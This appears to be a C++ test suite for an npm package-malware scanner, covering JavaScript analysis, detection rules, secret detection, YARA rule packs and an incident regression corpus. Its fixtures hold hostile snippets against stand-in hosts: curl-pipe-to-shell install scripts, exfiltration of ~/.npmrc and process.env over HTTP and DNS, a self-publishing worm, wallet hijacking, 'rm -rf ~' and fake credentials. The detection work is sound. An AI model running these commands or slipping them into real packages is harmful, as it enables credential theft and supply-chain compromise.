#include "security/scan/scanner.h"

#include <archive.h>
#include <archive_entry.h>
#include <gtest/gtest.h>
#include <zlib.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>
#include <thread>

#include "accounts/tokens.h"
#include "base/hash.h"
#include "base/strings.h"
#include "bulwark/env/random.h"
#include "security/scan/js_analysis.h"
#include "testing/fakes.h"

namespace bulwark::scan {
namespace {

namespace fs = std::filesystem;
using Files = std::map<std::string, std::string>;

const Scanner& Shared() {
  static const Scanner* scanner = [] {
    auto s = Scanner::Create({});
    EXPECT_TRUE(s.ok()) << s.status();
    return s->release();
  }();
  return *scanner;
}

ScanReport ScanFiles(const Files& files, const Scanner& scanner = Shared()) {
  PackageFiles pf;
  auto it = files.find("package.json");
  static const std::string kDefault = R"({"name":"demo","version":"1.0.0"})";
  pf.package_json = it == files.end() ? std::string_view(kDefault) : std::string_view(it->second);
  for (const auto& [path, content] : files) {
    pf.files.push_back(ScanFile{path, content, content.size(), 0644, true});
  }
  auto r = scanner.Scan(pf);
  EXPECT_TRUE(r.ok()) << r.status();
  return r.ok() ? *r : ScanReport{};
}


bool HasRule(const ScanReport& r, std::string_view id) {
  for (const auto& f : r.findings) if (f.rule_id == id) return true;
  return false;
}

const Finding* FindingOf(const ScanReport& r, std::string_view id) {
  for (const auto& f : r.findings) if (f.rule_id == id) return &f;
  return nullptr;
}

std::string Describe(const ScanReport& r) {
  std::string out = StrCat("verdict ", VerdictName(r.verdict), ":");
  for (const auto& f : r.findings) {
    StrAppend(&out, "\n  ", VerdictName(f.suggests), " ", f.rule_id, " ", f.file, ":", f.line, " ",
              f.evidence);
  }
  return out;
}

constexpr char kBase62[] = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

// A token in the GitHub/npm shape, checksum computed here independently of the scanner.
std::string MakeToken(std::string_view prefix, std::string_view body30) {
  uint32_t crc = static_cast<uint32_t>(
      crc32(0, reinterpret_cast<const Bytef*>(body30.data()), static_cast<uInt>(body30.size())));
  std::string sum(6, '0');
  for (int i = 5; i >= 0; --i) {
    sum[i] = kBase62[crc % 62];
    crc /= 62;
  }
  return StrCat(prefix, body30, sum);
}

// `npm pack` layout: every file under package/, gzip'd tar.
std::string Pack(const Files& files) {
  archive* a = archive_write_new();
  archive_write_add_filter_gzip(a);
  archive_write_set_format_pax_restricted(a);
  std::size_t total = 4096;
  for (const auto& [p, c] : files) total += c.size() + 2048;
  std::string out(total * 2, '\0');
  size_t used = 0;
  archive_write_open_memory(a, out.data(), out.size(), &used);
  for (const auto& [path, content] : files) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, ("package/" + path).c_str());
    archive_entry_set_size(e, content.size());
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_write_header(a, e);
    archive_write_data(a, content.data(), content.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
  out.resize(used);
  return out;
}

Files ReadFolder(const fs::path& dir) {
  Files files;
  for (const auto& e : fs::recursive_directory_iterator(dir)) {
    if (!e.is_regular_file()) continue;
    std::ifstream in(e.path(), std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    files[fs::relative(e.path(), dir).generic_string()] = ss.str();
  }
  return files;
}

// ---------------------------------------------------------------- JavaScript analysis

bool HasEvent(const JsFacts& f, JsEvent::Kind k, std::string_view detail_part = "") {
  for (const auto& e : f.events) {
    if (e.kind == k && StrContains(e.detail, detail_part)) return true;
  }
  return false;
}

TEST(JsAnalysis, ResolvesRequireAliasesAndDestructuring) {
  auto f = AnalyzeJs(R"(
const cp = require('child_process');
const { spawn: run } = require('node:child_process');
import * as proc from 'child_process';
cp.exec('echo one');
run('echo', ['two'], { detached: true, stdio: 'ignore' });
proc.execSync('echo three');
require('child_process').execFile('echo', ['four']);
)");
  ASSERT_TRUE(f.parsed);
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kSpawn, "echo one"));
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kSpawn, "echo two"));
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kSpawn, "echo three"));
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kSpawn, "echo four"));
  int silent = 0;
  for (const auto& e : f.events) silent += e.kind == JsEvent::Kind::kSpawn && e.silent;
  EXPECT_EQ(silent, 1);
}

TEST(JsAnalysis, FoldsConcatenationAndDecodedLiterals) {
  auto f = AnalyzeJs(R"(
const a = 'child' + '_process';
const m = require(a);
const b = Buffer.from('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQveA==', 'base64').toString();
const c = String.fromCharCode(0x6e, 112, 109);
const d = 'crs'.split('').reverse().join('');
const e = atob('ZXZpbA==');
const g = require(Buffer.from('6e6574', 'hex').toString());
)");
  ASSERT_TRUE(f.parsed);
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kHiddenRequire, "child_process"));
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kHiddenRequire, "net"));
  auto has_string = [&](std::string_view s) {
    return std::find(f.strings.begin(), f.strings.end(), s) != f.strings.end();
  };
  EXPECT_TRUE(has_string("https://example.invalid/x"));
  EXPECT_TRUE(has_string("npm"));
  EXPECT_TRUE(has_string("src"));
  EXPECT_TRUE(has_string("evil"));
}

TEST(JsAnalysis, EvalOfDecodedDataVersusConstants) {
  auto decoded = AnalyzeJs("const p = Buffer.from(x, 'base64');\neval(p.toString());\n");
  EXPECT_TRUE(HasEvent(decoded, JsEvent::Kind::kEvalDecoded));
  auto fn = AnalyzeJs("new Function(atob(payload))();\n");
  EXPECT_TRUE(HasEvent(fn, JsEvent::Kind::kEvalDecoded));
  auto vm = AnalyzeJs("const vm = require('vm');\nvm.runInThisContext(String.fromCharCode(97,98));\n");
  EXPECT_TRUE(HasEvent(vm, JsEvent::Kind::kEvalDecoded));
  auto constant = AnalyzeJs("const f = new Function('a', 'return a + 1');\n");
  EXPECT_FALSE(HasEvent(constant, JsEvent::Kind::kEvalDecoded));
  EXPECT_FALSE(HasEvent(constant, JsEvent::Kind::kEvalDynamic));
}

TEST(JsAnalysis, CredentialPathsThroughPathJoin) {
  auto f = AnalyzeJs(R"(
const fs = require('fs'), os = require('os'), path = require('path');
fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
fs.readFile(process.env.HOME + '/.aws/credentials', () => {});
fs.writeFileSync(path.join(dir, '.github', 'workflows', 'x.yml'), y);
)");
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kCredRead, "~/.npmrc"));
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kCredRead, ".aws/credentials"));
  EXPECT_TRUE(HasEvent(f, JsEvent::Kind::kWorkflowWrite));
}

TEST(JsAnalysis, HostileInputIsBounded) {
  std::string deep(200000, '(');
  auto f = AnalyzeJs(deep);  // must return, not crash
  std::string concat = "x = 'a'";
  for (int i = 0; i < 20000; ++i) concat += " + 'a'";
  auto g = AnalyzeJs(concat);
  EXPECT_TRUE(g.parsed);
  std::string garbage;
  for (int i = 0; i < 100000; ++i) garbage.push_back(static_cast<char>((i * 7919) % 256));
  (void)AnalyzeJs(garbage);
  (void)f;
}

TEST(JsAnalysis, LooseDecoders) {
  std::string out;
  EXPECT_TRUE(DecodeBase64Loose("aGVsbG8", &out));
  EXPECT_EQ(out, "hello");
  EXPECT_TRUE(DecodeHexLoose("68656c6c6f", &out));
  EXPECT_EQ(out, "hello");
  EXPECT_FALSE(DecodeHexLoose("6", &out));
  EXPECT_FALSE(DecodeBase64Loose("!!", &out));
}

// ---------------------------------------------------------------- rules, one by one

TEST(ScanRules, CleanPackageIsClean) {
  auto r = ScanFiles({{"package.json", R"({"name":"x","version":"1.0.0","main":"index.js"})"},
                      {"index.js", "module.exports = (a, b) => a + b;\n"},
                      {"README.md", "# x\n\nAdds numbers.\n"}});
  EXPECT_EQ(r.verdict, Verdict::kClean) << Describe(r);
  EXPECT_TRUE(r.findings.empty());
  EXPECT_EQ(r.files_scanned, 3u);
  EXPECT_GT(r.bytes_scanned, 0u);
}

TEST(ScanRules, InstallScripts) {
  auto warn = ScanFiles({{"package.json", R"({"name":"x","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})"},
                         {"setup.js", "console.log('hi');\n"}});
  EXPECT_EQ(warn.verdict, Verdict::kWarn) << Describe(warn);
  EXPECT_TRUE(HasRule(warn, "install-script"));
  EXPECT_NE(std::find(warn.capabilities.begin(), warn.capabilities.end(), "install-script"),
            warn.capabilities.end());

  auto benign = ScanFiles({{"package.json", R"({"name":"x","version":"1.0.0","scripts":{"install":"node-gyp rebuild"}})"}});
  EXPECT_EQ(benign.verdict, Verdict::kClean) << Describe(benign);

  auto curl = ScanFiles({{"package.json", R"({"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://x.invalid/i.sh | sh"}})"}});
  EXPECT_EQ(curl.verdict, Verdict::kHold) << Describe(curl);
  EXPECT_TRUE(HasRule(curl, "install-script-download-exec"));

  auto inline_code = ScanFiles({{"package.json", R"({"name":"x","version":"1.0.0","scripts":{"postinstall":"node -e \"require('child_process').exec('x',{detached:true})\""}})"}});
  EXPECT_TRUE(HasRule(inline_code, "install-script-inline-code")) << Describe(inline_code);
  EXPECT_TRUE(HasRule(inline_code, "install-silent-spawn")) << Describe(inline_code);
}

TEST(ScanRules, SilentChildProcess) {
  auto r = ScanFiles({{"index.js", "const cp = require('child_process');\n"
                                   "cp.spawn('node', ['w.js'], { detached: true, stdio: 'ignore' }).unref();\n"}});
  const Finding* f = FindingOf(r, "child-process-silent");
  ASSERT_NE(f, nullptr) << Describe(r);
  EXPECT_EQ(f->line, 2u);
  EXPECT_EQ(r.verdict, Verdict::kWarn);
}

TEST(ScanRules, EvalOfDecodedData) {
  auto r = ScanFiles({{"lib/x.js", "var s = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(s, 'base64').toString());\n"}});
  EXPECT_TRUE(HasRule(r, "eval-decoded")) << Describe(r);
  EXPECT_EQ(r.verdict, Verdict::kHold);
  EXPECT_EQ(FindingOf(r, "eval-decoded")->file, "lib/x.js");
  EXPECT_EQ(FindingOf(r, "eval-decoded")->line, 2u);
}

TEST(ScanRules, ObfuscatorOutput) {
  std::string obf = "var _0x1a2b=['log','push','shift'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));";
  for (int i = 0; i < 30; ++i) obf += StrCat("var _0x", 4000 + i, "=_0x1a2b[0];");
  auto r = ScanFiles({{"index.js", obf}});
  EXPECT_TRUE(HasRule(r, "obfuscated-code")) << Describe(r);
  EXPECT_EQ(r.verdict, Verdict::kWarn) << Describe(r);
  // The same with a network call is held.
  auto held = ScanFiles({{"index.js", obf + "\nrequire('https').get('https://x.invalid/');\n"}});
  EXPECT_TRUE(HasRule(held, "obfuscated-payload")) << Describe(held);
  EXPECT_EQ(held.verdict, Verdict::kHold);
}

TEST(ScanRules, JsfuckPackerWhitespaceUnicode) {
  std::string jsfuck = "x=";
  for (int i = 0; i < 20; ++i) jsfuck += "(![]+[])[+!+[]]+";
  EXPECT_TRUE(HasRule(ScanFiles({{"a.js", jsfuck + "[];"}}), "jsfuck"));
  // A long run of spaces alone (ASCII art, alignment) is not hidden code.
  EXPECT_FALSE(HasRule(ScanFiles({{"a.js", "const ok = 1;\n" + std::string(300, ' ') + "\n"}}),
                       "hidden-code-whitespace"));
  EXPECT_TRUE(HasRule(ScanFiles({{"a.js", "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))"}}), "packer"));
  EXPECT_TRUE(HasRule(ScanFiles({{"a.js", "const ok = 1;" + std::string(300, ' ') + "require('child_process').exec('x');\n"}}),
                      "hidden-code-whitespace"));
  auto bidi = ScanFiles({{"a.js", "const isAdmin = false; /*\xE2\x80\xAE } \xE2\x81\xA6 if (isAdmin)*/\n"}});
  const Finding* f = FindingOf(bidi, "unicode-bidi");
  ASSERT_NE(f, nullptr) << Describe(bidi);
  EXPECT_NE(f->evidence.find("\\xe2\\x80\\xae"), std::string::npos) << f->evidence;  // escaped
  EXPECT_TRUE(HasRule(ScanFiles({{"a.js", "const \xE3\x85\xA4 = 1;\n"}}), "invisible-unicode"));
}

TEST(ScanRules, CredentialReadsAndExfiltration) {
  auto read_only = ScanFiles({{"index.js", "const fs = require('fs'); const os = require('os');\n"
                                           "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"}});
  EXPECT_TRUE(HasRule(read_only, "credential-read")) << Describe(read_only);
  EXPECT_EQ(read_only.verdict, Verdict::kWarn);

  auto exfil = ScanFiles({{"index.js", "const fs = require('fs'); const os = require('os'); const https = require('https');\n"
                                       "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                                       "https.request({ host: 'x.invalid', method: 'POST' }).end(t);\n"}});
  EXPECT_TRUE(HasRule(exfil, "exfiltration")) << Describe(exfil);
  EXPECT_EQ(exfil.verdict, Verdict::kHold);
  EXPECT_NE(std::find(exfil.capabilities.begin(), exfil.capabilities.end(), "credentials"),
            exfil.capabilities.end());

  auto webhook = ScanFiles({{"index.js", "const os = require('os');\n"
                                         "fetch('https://discord.com/api/webhooks/1/abc', {method:'POST', body: os.hostname()});\n"}});
  EXPECT_TRUE(HasRule(webhook, "exfil-webhook")) << Describe(webhook);
  EXPECT_TRUE(HasRule(webhook, "exfiltration")) << Describe(webhook);

  auto dns = ScanFiles({{"index.js", "const dns = require('dns');\n"
                                     "const d = Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60);\n"
                                     "dns.resolve(d + '.x.invalid', () => {});\n"}});
  EXPECT_TRUE(HasRule(dns, "dns-exfiltration")) << Describe(dns);

  auto ip = ScanFiles({{"index.js", "require('http').get('http://203.0.113.7:8080/p');\nrequire('http').get('http://127.0.0.1/');\n"}});
  const Finding* f = FindingOf(ip, "raw-ip-url");
  ASSERT_NE(f, nullptr) << Describe(ip);
  EXPECT_EQ(f->line, 1u);
  auto local = ScanFiles({{"index.js", "require('http').get('http://127.0.0.1:3000/');\n"}});
  EXPECT_FALSE(HasRule(local, "raw-ip-url"));
}

TEST(ScanRules, DownloadThenExecute) {
  auto r = ScanFiles({{"index.js", "require('child_process').execSync('curl -fsSL https://x.invalid/a.sh | bash');\n"}});
  EXPECT_TRUE(HasRule(r, "download-exec")) << Describe(r);
  EXPECT_EQ(r.verdict, Verdict::kHold);
  auto sh = ScanFiles({{"get.sh", "#!/bin/sh\nwget https://x.invalid/m -O /tmp/m\nchmod +x /tmp/m\n/tmp/m &\n"}});
  EXPECT_TRUE(HasRule(sh, "download-exec")) << Describe(sh);
  // A help text that only mentions curl in a README is not code.
  auto readme = ScanFiles({{"README.md", "Install: curl -fsSL https://x.invalid/i.sh | sh\n"}});
  EXPECT_EQ(readme.verdict, Verdict::kClean) << Describe(readme);
}

TEST(ScanRules, WorkflowWriteAndSelfPropagation) {
  auto wf = ScanFiles({{"index.js", "const fs = require('fs');\nfs.writeFileSync('.github/workflows/ci.yml', 'on: push');\n"}});
  EXPECT_TRUE(HasRule(wf, "workflow-write")) << Describe(wf);
  EXPECT_EQ(wf.verdict, Verdict::kWarn);
  auto worm = ScanFiles({{"w.js", "const { execSync } = require('child_process'); const fs = require('fs');\n"
                                  "const p = JSON.parse(fs.readFileSync('package.json'));\n"
                                  "p.scripts.postinstall = 'node w.js';\n"
                                  "fs.writeFileSync('package.json', JSON.stringify(p));\n"
                                  "execSync('npm publish');\n"}});
  EXPECT_TRUE(HasRule(worm, "self-propagation")) << Describe(worm);
  EXPECT_EQ(worm.verdict, Verdict::kHold);
}

TEST(ScanRules, BundledBinariesAndUrlDependencies) {
  std::string elf = std::string("\x7f" "ELF\x02\x01\x01", 7) + std::string(200, '\0');
  auto r = ScanFiles({{"package.json", R"({"name":"x","version":"1.0.0","dependencies":{"a":"git+https://x.invalid/a.git","b":"user/repo","c":"^1.0.0","d":"https://x.invalid/d.tgz","e":"npm:f@1"}})"},
                      {"bin/tool", elf}});
  EXPECT_TRUE(HasRule(r, "bundled-binary")) << Describe(r);
  int urls = 0;
  for (const auto& f : r.findings) urls += f.rule_id == "dependency-url";
  EXPECT_EQ(urls, 3) << Describe(r);
  EXPECT_NE(std::find(r.capabilities.begin(), r.capabilities.end(), "native"), r.capabilities.end());
  EXPECT_EQ(r.verdict, Verdict::kWarn);
}

TEST(ScanRules, WalletHijackAndDestructiveWrite) {
  std::string addrs;
  for (int i = 1; i <= 6; ++i) addrs += StrCat("'0x", std::string(39, '0'), i, "',");
  auto w = ScanFiles({{"a.js", "const list=[" + addrs + "];\nif (window.ethereum) { window.ethereum.request = hook(list); }\n"}});
  EXPECT_TRUE(HasRule(w, "wallet-hijack")) << Describe(w);
  auto wipe = ScanFiles({{"a.sh", "#!/bin/sh\nrm -rf ~ \n"}});
  EXPECT_TRUE(HasRule(wipe, "destructive-write")) << Describe(wipe);
}

// ---------------------------------------------------------------- secrets

TEST(Secrets, RegistryTokensByChecksum) {
  std::string minted = NewTokenSecret(SystemRandom());  // what accounts/ hands out
  ASSERT_TRUE(IsChecksummedToken(minted, "bwk_"));
  std::string forged = minted;
  forged[10] = forged[10] == 'a' ? 'b' : 'a';
  EXPECT_FALSE(IsChecksummedToken(forged, "bwk_"));

  auto r = ScanFiles({{"config/test.json", StrCat("{\n  \"token\": \"", minted, "\",\n  \"other\": \"", forged, "\"\n}\n")}});
  int hits = 0;
  for (const auto& f : r.findings) {
    if (f.rule_id != "secret-registry-token") continue;
    ++hits;
    EXPECT_EQ(f.file, "config/test.json");
    EXPECT_EQ(f.line, 2u);
    EXPECT_EQ(f.evidence.find(minted), std::string::npos) << "evidence must be redacted";
  }
  EXPECT_EQ(hits, 1) << Describe(r);
  EXPECT_EQ(r.verdict, Verdict::kHold);

  std::string a = StrCat("x\n", minted, "\n"), b = "no token here";
  PackageFiles pf;
  pf.package_json = R"({"name":"x"})";
  pf.files = {ScanFile{"a.txt", a, a.size(), 0644, true}, ScanFile{"b.txt", b, b.size(), 0644, true}};
  auto found = FindRegistryTokens(pf);
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].token, minted);
  EXPECT_EQ(found[0].file, "a.txt");
  EXPECT_EQ(found[0].line, 2u);
}

TEST(Secrets, NpmGithubAwsSlackKeysNpmrcEnv) {
  std::string npm = MakeToken("npm_", "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy");
  std::string gh = MakeToken("ghp_", "Zy3xWv6uTs9rQp2oNm5lKj8iHg1fEd");
  auto r = ScanFiles({
      {"lib/a.js", StrCat("const NPM = '", npm, "';\nconst GH = '", gh, "';\n")},
      {"deploy.js", "const id = 'AKIAZ5QXJ7R2MBN4TW6P';\nconst secret = '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';\n"},
      {"notify.js", "const hook = 'xoxb-830162947105-5920371846012-Q8wZr2Lk9VtX4mN7pB3sD6fH';\n"},
      {"certs/server.key", "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAw7Zp0S9eq4P3rM2c8Xk1yV5tN6uJ0hG9aL2sD4fF7gH8jK3l\n-----END RSA PRIVATE KEY-----\n"},
      {".npmrc", "//registry.example.invalid/:_authToken=2f0c1e9a-4b7d-4c3e-9a8b-1d2e3f4a5b6c\n"},
      {".env", "PORT=3000\nSTRIPE_SECRET_KEY=sk_live_51HxYzAbCdEf\n"},
  });
  for (std::string_view id : {"secret-npm-token", "secret-github-token", "secret-aws-key",
                              "secret-slack-token", "secret-private-key", "secret-npmrc-auth",
                              "secret-env-file"}) {
    const Finding* f = FindingOf(r, id);
    ASSERT_NE(f, nullptr) << id << "\n" << Describe(r);
    EXPECT_EQ(f->suggests, Verdict::kHold) << id;
  }
  EXPECT_EQ(FindingOf(r, "secret-npm-token")->line, 1u);
  EXPECT_EQ(FindingOf(r, "secret-github-token")->line, 2u);
  EXPECT_EQ(r.verdict, Verdict::kHold);
  for (const auto& f : r.findings) {
    EXPECT_EQ(f.evidence.find(npm), std::string::npos);
    EXPECT_EQ(f.evidence.find("sk_live_51HxYzAbCdEf"), std::string::npos);
  }
}

TEST(Secrets, PlaceholdersAndExamplesAreNotSecrets) {
  auto r = ScanFiles({
      {"README.md", "Set `//registry/:_authToken=${NPM_TOKEN}` or _authToken=YOUR_TOKEN_HERE.\n"
                    "AWS example: AKIAIOSFODNN7EXAMPLE\n"
                    "-----BEGIN RSA PRIVATE KEY-----\n...\n-----END RSA PRIVATE KEY-----\n"},
      {".env.example", "API_TOKEN=changeme\n"},
      {"x.js", "const t = 'npm_" + std::string(36, 'x') + "';\n"},
  });
  EXPECT_EQ(r.verdict, Verdict::kClean) << Describe(r);
}

// ---------------------------------------------------------------- rule pack

TEST(RulePack, AdminRulesAndHashesWithoutRebuild) {
  testing::TempDir dir;
  std::string bad_file = "MZ this is a known bad dropper sample\n";
  {
    std::ofstream(dir.path() + "/local.yar") << R"(
rule acme_backdoor {
  meta:
    rule_id = "sig-acme-backdoor"
    severity = "critical"
    verdict = "reject"
    explanation = "The ACME backdoor."
  strings:
    $a = "acme-backdoor-beacon"
  condition:
    $a
}
)";
    std::ofstream(dir.path() + "/bad.sha256")
        << "# known bad\n" << HexEncode(Sha256(bad_file)) << " dropper sample\n";
  }
  ScannerOptions options;
  options.rule_dirs = {dir.path()};
  auto scanner = Scanner::Create(options);
  ASSERT_TRUE(scanner.ok()) << scanner.status();
  EXPECT_GT((*scanner)->yara_rule_count(), 1u);
  EXPECT_EQ((*scanner)->known_hash_count(), 1u);
  auto r = ScanFiles({{"a.js", "\n\nconst x = 'acme-backdoor-beacon';\n"}, {"drop.bin", bad_file}}, **scanner);
  const Finding* sig = FindingOf(r, "sig-acme-backdoor");
  ASSERT_NE(sig, nullptr) << Describe(r);
  EXPECT_EQ(sig->line, 3u);
  EXPECT_EQ(sig->explanation, "The ACME backdoor.");
  const Finding* hash = FindingOf(r, "known-malicious-file");
  ASSERT_NE(hash, nullptr) << Describe(r);
  EXPECT_EQ(hash->file, "drop.bin");
  EXPECT_EQ(r.verdict, Verdict::kReject);
}

TEST(RulePack, BrokenRuleFileIsAClearError) {
  testing::TempDir dir;
  std::ofstream(dir.path() + "/broken.yar") << "rule x {\n  condition:\n    $nope\n}\n";
  auto scanner = Scanner::Create({.rule_dirs = {dir.path()}});
  ASSERT_FALSE(scanner.ok());
  EXPECT_EQ(scanner.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_NE(scanner.status().message().find("broken.yar"), std::string::npos) << scanner.status();
  testing::TempDir dir2;
  std::ofstream(dir2.path() + "/h.sha256") << "not-a-hash label\n";
  auto s2 = Scanner::Create({.rule_dirs = {dir2.path()}});
  ASSERT_FALSE(s2.ok());
  EXPECT_NE(s2.status().message().find("h.sha256(1)"), std::string::npos) << s2.status();
}

// ---------------------------------------------------------------- engine

TEST(Engine, TarballsUnderCoreLimitsAndBadInput) {
  std::string tgz = Pack({{"package.json", R"({"name":"x","version":"1.0.0"})"},
                          {"index.js", "eval(atob('YWxlcnQoMSk='));\n"}});
  auto r = Shared().ScanTarball(tgz);
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_TRUE(HasRule(*r, "eval-decoded")) << Describe(*r);
  auto bad = Shared().ScanTarball("not a tarball");
  EXPECT_FALSE(bad.ok());
  EXPECT_EQ(bad.status().code(), absl::StatusCode::kInvalidArgument);
}

TEST(Engine, ThreadSafe) {
  Files evil = {{"index.js", "eval(atob('YWxlcnQoMSk='));\n"}};
  Files fine = {{"index.js", "module.exports = 1;\n"}};
  std::vector<std::thread> threads;
  std::atomic<int> wrong{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 50; ++i) {
        bool bad = (i + t) % 2 == 0;
        auto r = ScanFiles(bad ? evil : fine);
        if ((r.verdict == Verdict::kHold) != bad) ++wrong;
      }
    });
  }
  for (auto& th : threads) th.join();
  EXPECT_EQ(wrong.load(), 0);
}

TEST(Engine, EvidenceIsShortAndEscaped) {
  std::string line = "const a = 1; /*\x01\x02*/ const b = '" + std::string(5000, 'x') +
                     "'; eval(atob('YWxlcnQoMSk='));";
  auto r = ScanFiles({{"a.js", line}});
  ASSERT_FALSE(r.findings.empty());
  for (const auto& f : r.findings) {
    EXPECT_LE(f.evidence.size(), 200u);
    for (unsigned char c : f.evidence) EXPECT_GE(c, 0x20);
  }
}

// ---------------------------------------------------------------- incident regression suite

struct Incident {
  const char* folder;
  Verdict at_least;
  std::vector<std::string> rules;  // every one must be present
};

class IncidentTest : public ::testing::TestWithParam<Incident> {};

TEST_P(IncidentTest, HeldForItsReason) {
  const Incident& c = GetParam();
  Files files = ReadFolder(fs::path(SCAN_CORPUS_DIR) / c.folder);
  ASSERT_FALSE(files.empty()) << c.folder;
  auto r = Shared().ScanTarball(Pack(files));
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_GE(r->verdict, c.at_least) << c.folder << "\n" << Describe(*r);
  for (const auto& id : c.rules) {
    EXPECT_TRUE(HasRule(*r, id)) << c.folder << " lacks " << id << "\n" << Describe(*r);
  }
  // The first rule listed is the specific reason: it alone holds the package.
  const Finding* f = FindingOf(*r, c.rules.front());
  if (f) EXPECT_GE(f->suggests, Verdict::kHold) << c.folder << " " << c.rules.front();
}

INSTANTIATE_TEST_SUITE_P(
    Corpus, IncidentTest,
    ::testing::Values(
        Incident{"crossenv", Verdict::kHold, {"exfiltration", "env-serialize"}},
        Incident{"eslint-scope", Verdict::kHold, {"eval-remote"}},
        Incident{"flatmap-stream", Verdict::kReject, {"sig-flatmap-stream", "hidden-require"}},
        Incident{"ua-parser-js", Verdict::kReject,
                 {"install-download-exec", "sig-ua-parser-coa-2021", "sig-coin-miner"}},
        Incident{"coa", Verdict::kReject,
                 {"obfuscated-payload", "download-exec", "sig-ua-parser-coa-2021"}},
        Incident{"node-ipc", Verdict::kReject, {"destructive-write", "sig-node-ipc-protestware"}},
        Incident{"chalk-debug-2025", Verdict::kHold, {"wallet-hijack", "obfuscated-payload"}},
        Incident{"shai-hulud", Verdict::kReject,
                 {"sig-shai-hulud", "self-propagation", "exfiltration", "workflow-write"}}),
    [](const auto& info) {
      std::string n = info.param.folder;
      std::replace(n.begin(), n.end(), '-', '_');
      return n;
    });

TEST(IncidentCorpus, BenignLookalikesAreNotHeld) {
  for (const char* folder : {"benign-cli", "benign-native"}) {
    Files files = ReadFolder(fs::path(SCAN_CORPUS_DIR) / folder);
    auto r = Shared().ScanTarball(Pack(files));
    ASSERT_TRUE(r.ok()) << r.status();
    EXPECT_LT(r->verdict, Verdict::kHold) << folder << "\n" << Describe(*r);
  }
}

}  // namespace
}  // namespace bulwark::scan
